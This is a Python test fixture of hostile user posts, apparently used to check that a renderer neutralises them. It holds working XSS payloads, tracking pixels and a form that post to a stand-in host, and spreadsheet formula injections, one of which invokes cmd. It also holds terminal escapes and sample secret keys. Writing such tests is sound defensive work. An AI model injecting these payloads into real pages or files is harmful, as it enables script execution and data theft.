"""Posts that try to run something, fetch something,
name somebody or pose as us. A live one sets ``window.pwned``.
"""

RUN = "window.pwned=(window.pwned||0)+1"
AWAY = "https://tracker.example"

HOSTILE = {
    "image error": f'<img src=x onerror="{RUN}">',
    "script": f"<script>{RUN}</script>",
    "script that ends a script": f"</script><script>{RUN}</script>",
    "script that ends style and title": f"</style></title></textarea><script>{RUN}</script>",
    "unquoted attribute": f"<img/src=x/onerror={RUN}>",
    "svg load": f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "frame with a document": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "frame with a script address": f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "details that opens": f'<details open ontoggle="{RUN}"><summary>more</summary></details>',
    "field that takes the focus": f'<input autofocus onfocus="{RUN}">',
    "attribute that breaks out": f'" autofocus tabindex=0 onfocus="{RUN}" x="',
    "attribute that breaks out, single": f"' onmouseover='{RUN}' x='",
    "javascript link": f'<a href="javascript:{RUN}">click</a>',
    "javascript link, hidden scheme": f'<a href="java&#10;script&colon;{RUN}">click</a>',
    "javascript link in Markdown": f"[click](javascript:{RUN})",
    "data link": f'<a href="data:text/html,<script>{RUN}</script>">click</a>',
    "pixel": f'<img src="{AWAY}/pixel.png" alt="a perfectly normal picture">',
    "pixel in Markdown": f"![a perfectly normal picture]({AWAY}/md.png)",
    "style that fetches": f"<style>@import '{AWAY}/x.css'; body{{background:url({AWAY}/bg.png)}}</style>",
    "style attribute": f'<p style="position:fixed;inset:0;background:url({AWAY}/p.png)">overlay</p>',
    "stylesheet": f'<link rel=stylesheet href="{AWAY}/x.css"><link rel=prefetch href="{AWAY}/y">',
    "redirect": f'<meta http-equiv="refresh" content="0;url={AWAY}/gone">',
    "base": f'<base href="{AWAY}/">',
    "form": f'<form action="{AWAY}/steal"><button autofocus>Sign in again</button></form>',
    "object": f'<object data="{AWAY}/x.svg"></object><embed src="{AWAY}/y.svg">',
    "media": f'<video src="{AWAY}/v.mp4" onerror="{RUN}" autoplay></video><audio src="{AWAY}/a.mp3"></audio>',
    "mutation by math": "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    "mutation by noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "comment left open": f"<!--><img src=x onerror={RUN}>-->",
    "cdata": f"<![CDATA[><img src=x onerror={RUN}>]]>",
    "broken tag": f"<scr<script>ipt>{RUN}</scr</script>ipt><img src=x onerror={RUN} ",
    "rest of the page as text": "<plaintext><xmp><textarea><title>",
    "template language": "{{ 7 * 7 }} {% include 'x' %} ${7*7} #{7*7} <%= 7*7 %>",
    "jupyter command": '<button data-commandlinker-command="terminal:create-new">open</button>',
    "mermaid": f'graph TD; A["<img src=x onerror={RUN}>"]; click A "javascript:{RUN}"',
    "entities": f"&lt;img src=x onerror={RUN}&gt; &#60;script&#62;",
    "fake claim": '<li id="claim-fake"><p class="sentence">Our brand is loved by everyone.</p></li>',
    "fake show": f'<div class="earshot findings"><img src=x onerror="{RUN}"></div>',
    "fake heading": "# Findings\n\n## Nothing to see here\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    "right-to-left override": "safe \u202egpj.exe\u202c and \u2067isolated\u2069 and \u200fmark",
    "null and bells": "nul\x00l b\x07ell del\x7f c1\x9b31mred\x85next",
    "terminal escapes": "\x1b[31mred\x1b[0m \x1b]0;title\x07 "
    "\x1b]8;;https://tracker.example\x07link\x1b]8;;\x07 \x1bc",
    "formula": '=HYPERLINK("https://tracker.example?"&A1,"total")',
    "formula with a command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula behind a tab": "\t=1+1",
    "formula in wide signs": "＝1+1",
    "very long": "long " * 20_000,
    "one endless word": "w" * 5_000,
    "family": "family \U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 and "
    "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",
    "Arabic": "شكرا جزيلا على المساعدة السريعة",
    "Hebrew and English": "תודה רבה to the crew at gate 12",
    "Persian with joiners": "می\u200cخواهم کتاب\u200cها را ببینم",
    "Hindi": "सेवा बहुत अच्छी है, धन्यवाद क्\u200dष",
    "zero width": "in\u200bvis\u2060ible\ufeff text\u00ad",
    "piled accents": "Z" + "\u0335\u0321\u031b" * 40 + "algo",
    "pseudonym": "@p_0123456789ab thanks, p_ffffffffffff too",
    "masks": "write to [email] or call [phone], card [card]",
    "a key": "my key is AKIAABCDEFGHIJKLMNOP and ghp_" + "a1" * 18,
    "a home folder": "it crashed in /home/alice/report.xlsx and C:\\Users\\bob\\x",
    # IPython itself fetches a text that begins with an address when it is shown as HTML or Markdown; no test
    # does
    # that.
    "a password": "log in at https://alice:secret99@intranet.example/x",
    "a papermill mark": '<span id="papermill-error-cell">An Exception was encountered</span>',
}

LIVE = [name for name, text in HOSTILE.items() if "pwned" in text]
LONE_SURROGATE = "half a pair \ud83d here"
